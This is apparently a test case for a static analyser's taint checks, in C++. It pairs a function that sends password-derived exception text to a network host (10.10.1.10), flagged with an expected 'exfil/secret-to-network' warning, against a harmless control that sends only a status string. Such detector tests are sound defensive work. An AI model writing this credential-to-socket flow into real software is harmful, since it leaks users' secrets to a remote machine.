// What is thrown as a class is caught as its base.
#include <arpa/inet.h>
#include <cstdio>
#include <cstring>
#include <sys/socket.h>
#include <unistd.h>

struct problem {
    int code;
    char text[64];
};

struct refusal : problem {};

struct notice {
    int code;
    char text[64];
};

struct delay : notice {};

static int reach(const char *host) {
    sockaddr_in peer = {};
    peer.sin_family = AF_INET;
    peer.sin_port = htons(5201);
    int out = socket(AF_INET, SOCK_STREAM, 0);
    inet_pton(AF_INET, host, &peer.sin_addr);
    return connect(out, reinterpret_cast<sockaddr *>(&peer), sizeof peer) == 0 ? out : -1;
}

static void unlock(const char *word) {
    refusal raised;
    raised.code = 2;
    snprintf(raised.text, sizeof raised.text, "not %s", word);
    if (strlen(word) < 8)
        throw raised;
}

void bad_problem() {
    try {
        unlock(getpass("Password: "));
    } catch (const problem &what) {
        // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/secret-to-network]}}
        send(reach("10.10.1.10"), what.text, strlen(what.text), 0);
    }
}

static void wait_for(const char *word) {
    delay raised;
    raised.code = 3;
    snprintf(raised.text, sizeof raised.text, "busy %d", 7);
    if (strlen(word) < 8)
        throw raised;
}

void good_problem() {
    try {
        wait_for(getpass("Password: "));
    } catch (const notice &what) {
        send(reach("10.10.1.11"), what.text, strlen(what.text), 0);
    }
}
